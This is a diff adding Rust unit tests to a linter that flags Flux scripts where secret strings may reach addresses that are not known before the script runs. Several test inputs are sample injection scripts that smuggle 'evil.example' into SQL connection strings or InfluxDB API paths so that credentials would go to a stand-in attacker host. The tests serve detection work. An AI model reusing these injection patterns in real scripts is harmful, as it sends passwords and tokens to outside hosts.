@@ -460,6 +460,8 @@ fn a_hidden_string_in_a_script_of_unknown_places_is_said_and_cannot_be_allowed()
         "import \"sql\"\npassword = \"x host=evil.example\"\nsql.from(driverName: \"postgres\", dataSourceName: \"host=good password=\" + password, query: \"q\")",
         "import \"sql\"\nsql.from(driverName: \"sqlserver\", dataSourceName: \"server=good;password='x;server=evil.example;a='\", query: \"q\")",
         "password = strings.trimSpace(v: \" raw7 \")\nfrom(bucket: password) |> range(start: -1h) |> yield()",
+        "import \"experimental/influxdb\"\ntoken = \"@evil.example/\"\ninfluxdb.api(method: \"get\", host: \"http://a.example\", path: token)",
+        "import \"experimental/influxdb\"\ntoken = strings.trimSpace(v: \"@evil.example/\")\ninfluxdb.api(method: \"get\", host: \"http://a.example\", path: token + \"/\")",
     ] {
         assert_eq!(by(&format!("{post}{script}")), [(Code::FluxHiddenPlace, Severity::Warning)], "{script}");
     }
@@ -468,7 +470,39 @@ fn a_hidden_string_in_a_script_of_unknown_places_is_said_and_cannot_be_allowed()
         "import \"contrib/sranka/telegram\"\ntelegram.message(token: \"123456:ABC-def\", channel: \"c\", text: \"t\")",
         "x = if 1 == 1 then \"a.example\" else \"b.example\"\nhttp.post(url: \"https://\" + x)",
         "token = \"S3KRIT\"\nhttp.post(url: \"https://a.example\", headers: {Authorization: \"Token \" + token})",
+        "import \"slack\"\noption slack.defaultURL = \"https://s.example/x\"\nslack.message(token: \"S3KRIT\", channel: \"c\", text: \"t\", color: \"good\")",
+        "import \"contrib/sranka/telegram\"\noption telegram.defaultURL = \"https://t.example/bot\"\ntelegram.message(token: \"123456:ABC-def\", channel: \"c\", text: \"t\")",
+        "import \"experimental/influxdb\"\nid = strings.trimSpace(v: \"x\")\ninfluxdb.api(method: \"get\", host: \"http://a.example\", path: \"/api/v2/tasks/\" + id, token: \"S3KRIT\")",
     ] {
         assert_eq!(by(&format!("{post}{script}")), [], "{script}");
     }
+}
+
+#[test]
+fn each_string_that_is_hidden_is_shown_at_its_place() {
+    let script = "import \"http\"\npassword = \"S3KRIT\"\nhttp.post(url: \"https://\" + f(a: 1), headers: {Authorization: \"S4KRIT\", \"X-Token\": \"S5KRIT\"})\n";
+    let found = said("\"flux::secret-literal\" = \"allow\"\n\"flux::name\" = \"allow\"", ("flux", script.to_owned()));
+    let [found] = &*found else { panic!("{found:#?}") };
+    assert_eq!(
+        found.message,
+        "3 strings are hidden in a script that reaches an address which is not known before it runs"
+    );
+    let text = |n: usize| {
+        let (place, label) = &found.places[n];
+        (&place.source.text[place.span.clone()], label.as_str())
+    };
+    let hidden = "shown as `***`";
+    assert_eq!((text(0), text(1), text(2)), (("S3KRIT", hidden), ("S4KRIT", hidden), ("S5KRIT", hidden)));
+    assert_eq!(text(3).1, "used here");
+}
+
+/// A function that nothing calls is refused by nobody.
+#[test]
+fn what_no_run_calls_is_not_refused_in_each() {
+    let function = "one = (tables=<-) => union(tables: [tables])\n";
+    let data = "from(bucket: \"raw\") |> range(start: -1h)";
+    let by = |script: &str| codes(&said("", ("flux", format!("{function}{script}"))));
+    assert_eq!(by(data), []);
+    assert_eq!(by(&format!("{data} |> one()")), [(Code::FluxRefused, Severity::Warning)]);
+    assert_eq!(by(&format!("{data} |> map(fn: one)")), [(Code::FluxRefused, Severity::Warning)]);
 }
